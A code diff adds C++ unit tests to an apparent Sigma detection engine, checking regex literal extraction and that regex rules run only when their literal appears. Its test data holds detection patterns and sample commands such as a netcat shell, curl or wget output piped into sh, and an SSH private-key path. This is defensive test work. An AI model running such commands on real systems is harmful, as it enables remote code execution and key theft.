@@ -10,6 +10,7 @@
 #include <vector>
 
 #include "bench/alloc_counter.h"
+#include "matcher.h"  // agent/src/sigma: regex_required_literals
 #include "util/test_util.h"
 
 namespace {
@@ -1100,6 +1101,52 @@ TEST(SigmaMatch, Counters) {
   e.set.set_counters_enabled(false);
   EXPECT_TRUE(e.hits(proc("nc -e sh", "/bin/nc")));
   EXPECT_EQ(counters->evaluations.load(), 2u);
+}
+
+TEST(SigmaIndex, RegexRequiredLiterals) {
+  using detail::regex_required_literals;
+  using V = std::vector<std::string>;
+  EXPECT_EQ(regex_required_literals(R"(\bchmod\s+\+x)"), V{"chmod"});
+  EXPECT_EQ(regex_required_literals(R"((?i)/Tmp/[^/]+\.SH$)"), V{"/tmp/"});
+  // Alternation: one literal per branch, at the top or in a required group.
+  EXPECT_EQ(regex_required_literals("curl|wget"), (V{"curl", "wget"}));
+  EXPECT_EQ(regex_required_literals(R"(\b(curl|wget|scp)\b)"), (V{"curl", "wget", "scp"}));
+  EXPECT_EQ(regex_required_literals(R"((?:python|perl) -e)"), V{" -e"});  // the longest run first
+  EXPECT_EQ(regex_required_literals(R"((?:python|perl)e)"), (V{"python", "perl"}));
+  // A branch without a literal, or a short one: no set covers every match.
+  EXPECT_TRUE(regex_required_literals("curl|.*").empty());
+  EXPECT_TRUE(regex_required_literals("n|wget").empty());
+  EXPECT_EQ(regex_required_literals("nc|wget"), (V{"nc", "wget"}));
+  // Optional parts are not required.
+  EXPECT_EQ(regex_required_literals("abcd?ef"), V{"abc"});
+  EXPECT_EQ(regex_required_literals(R"(\.(pdf|jpe?g|7z)$)"), (V{"pdf", "jp", "7z"}));
+  EXPECT_EQ(regex_required_literals("abc(def)?gh"), V{"abc"});
+  EXPECT_EQ(regex_required_literals("x(defgh)*"), V{});
+  EXPECT_EQ(regex_required_literals("ab{0,2}cdef"), V{"cdef"});
+  EXPECT_EQ(regex_required_literals("abc+def"), V{"abc"});
+  // Escapes: punctuation is literal, classes and hex are not.
+  EXPECT_EQ(regex_required_literals(R"(\.ssh/id_)"), V{".ssh/id_"});
+  EXPECT_EQ(regex_required_literals(R"(\x41\x42\x43\d)"), V{});
+  EXPECT_EQ(regex_required_literals("[abc]def[x-z]"), V{"def"});
+  EXPECT_EQ(regex_required_literals("[]ab|]cdef"), V{"cdef"});  // '|' inside a class
+  EXPECT_TRUE(regex_required_literals(R"(\Qa|b\E)").empty());
+  EXPECT_TRUE(regex_required_literals("").empty());
+}
+
+TEST(SigmaIndex, RegexRulesRunOnlyWhenTheirLiteralIsThere) {
+  Engine e;
+  ASSERT_TRUE(e.load(rule(R"(
+    sel:
+        CommandLine|re: '(?i)\b(curl|wget)\b.*\|\s*(ba)?sh\b'
+    condition: sel)")));
+  EXPECT_TRUE(e.hits(proc("CURL -s http://x/y | sh")));
+  EXPECT_TRUE(e.hits(proc("wget -qO- http://x/y |bash")));
+  EXPECT_FALSE(e.hits(proc("curl -o out http://x/y")));  // evaluated, no match
+  EXPECT_FALSE(e.hits(proc("ls -la | sh")));             // never evaluated
+  EXPECT_FALSE(e.hits(proc("make -j2")));                // never evaluated
+  const auto [info, counters] = e.set.rules().front();
+  EXPECT_EQ(counters->evaluations.load(), 3u);
+  EXPECT_EQ(counters->matches.load(), 2u);
 }
 
 TEST(SigmaMatch, MatchingDoesNotAllocate) {
